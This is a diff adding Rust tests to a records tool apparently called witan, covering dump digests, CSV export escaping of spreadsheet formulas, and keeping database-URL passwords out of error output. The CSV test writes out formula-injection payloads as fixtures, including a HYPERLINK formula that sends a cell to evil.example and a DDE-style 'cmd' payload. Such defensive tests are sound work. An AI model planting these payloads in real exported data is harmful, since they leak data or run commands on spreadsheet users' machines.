@@ -1401,15 +1401,9 @@ fn dump_records(dir: &std::path::Path) -> Vec<String> {
         all.sort();
         json!(all)
     };
-    let file = |f: &Value| {
-        json!([
-            f["name"],
-            f["mimeType"],
-            f["size"],
-            f["text"],
-            f["witan:sha256"]
-        ])
-    };
+    // A File's digest is not compared: witan takes a digest only from bytes it read, and a dump
+    // holds links to the files, not the files (the test below checks that none is taken).
+    let file = |f: &Value| json!([f["name"], f["mimeType"], f["size"], f["text"]]);
     let files = |fs: &Value| {
         let mut all: Vec<String> = fs
             .as_array()
@@ -1550,6 +1544,22 @@ fn an_oparl_dump_imports_into_an_empty_store_as_the_same_records() {
     let second = dir.path().join("second");
     export(&copy, &second);
 
+    // The digests the first dump states name files the copy never read, so it takes none.
+    let digests = |dir: &std::path::Path| {
+        dump_objects(dir)
+            .values()
+            .filter(|o| o.get("witan:sha256").is_some())
+            .count()
+    };
+    assert!(
+        digests(&first.join("oparl")) > 0,
+        "the demo's files have digests"
+    );
+    assert_eq!(
+        digests(&second.join("oparl")),
+        0,
+        "a stated digest was taken"
+    );
     let before = dump_records(&first.join("oparl"));
     let after = dump_records(&second.join("oparl"));
     assert!(before.len() > 1000, "{} records", before.len());
@@ -1829,4 +1839,131 @@ fn overload_is_answered_with_quick_503s_and_memory_stays_bounded() {
         "resident memory grew from {before} KiB to {after} KiB"
     );
     assert!(peak < 400 * 1024, "peak resident memory {peak} KiB");
+}
+
+#[test]
+fn csv_export_writes_formulas_in_titles_as_text_not_formulas() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let data = dir.path().join("data");
+    demo(&data, 300);
+    // Titles as an import from a hostile source could leave them.
+    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the papers\")";
+    tokio_runtime().block_on(async {
+        let pool =
+            sqlx::SqlitePool::connect(&format!("sqlite://{}", data.join("witan.db").display()))
+                .await
+                .expect("open");
+        for (sql, value) in [
+            ("UPDATE decisions SET title = ?", formula),
+            (
+                "UPDATE actions SET description = ?",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+            ),
+            ("UPDATE forward_plan SET title = ?", "+1+1"),
+        ] {
+            sqlx::query(sql)
+                .bind(value)
+                .execute(&pool)
+                .await
+                .expect(sql);
+        }
+    });
+    let out = dir.path().join("registers");
+    let output = witan()
+        .args(["export", "csv", "--data"])
+        .arg(&data)
+        .arg("--out")
+        .arg(&out)
+        .output()
+        .expect("run export");
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let column = |file: &str, name: &str| -> Vec<String> {
+        let mut reader = csv::Reader::from_path(out.join(file)).expect("csv");
+        let at = reader
+            .headers()
+            .expect("header")
+            .iter()
+            .position(|h| h == name)
+            .expect("column");
+        reader
+            .records()
+            .map(|r| r.expect("row")[at].to_owned())
+            .collect()
+    };
+    for (file, name, expected) in [
+        ("decisions.csv", "title", format!("'{formula}")),
+        (
+            "actions.csv",
+            "description",
+            "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
+        ),
+        ("forward-plan.csv", "title", "'+1+1".to_owned()),
+    ] {
+        let cells = column(file, name);
+        assert!(!cells.is_empty(), "{file} has rows");
+        assert!(
+            cells.iter().all(|c| *c == expected),
+            "{file} {name}: {:?}",
+            cells.iter().find(|c| **c != expected)
+        );
+    }
+    // Every cell of every file: none starts as a formula would.
+    for file in ["decisions.csv", "actions.csv", "forward-plan.csv"] {
+        let mut reader = csv::Reader::from_path(out.join(file)).expect("csv");
+        for row in reader.records() {
+            for cell in row.expect("row").iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                        && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                    "{file}: {cell:?}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn a_password_in_the_database_urls_query_is_never_printed() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    // A PostgreSQL server nobody listens for, a parameter the driver does not read, and a
+    // scheme witan does not know: each fails, and no message shows a secret.
+    for url in [
+        "postgres://witan@127.0.0.1:9/witan?password=zqhunter2",
+        "postgres://witan:zqhunter2@127.0.0.1:9/witan?sslpassword=zqopensesame",
+        "mysql://witan:zqhunter2@db.example/witan?password=zqhunter2",
+    ] {
+        let output = witan()
+            .args(["migrate", "--data"])
+            .arg(dir.path())
+            .env("WITAN_DATABASE_URL", url)
+            .env("WITAN_LOG", "trace")
+            .output()
+            .expect("run migrate");
+        let said = format!(
+            "{}{}",
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr)
+        );
+        assert!(!output.status.success(), "{url}: {said}");
+        assert!(said.contains("error: "), "{url}: {said}");
+        assert!(
+            !said.contains("zqhunter2") && !said.contains("zqopensesame"),
+            "{url}: {said}"
+        );
+    }
+    let output = witan()
+        .args(["migrate", "--data"])
+        .arg(dir.path())
+        .env(
+            "WITAN_DATABASE_URL",
+            "postgres://witan@127.0.0.1:9/witan?sslpassword=zqopensesame",
+        )
+        .output()
+        .expect("run migrate");
+    let said = String::from_utf8_lossy(&output.stderr);
+    assert!(said.contains("\"sslpassword\""), "{said}");
 }
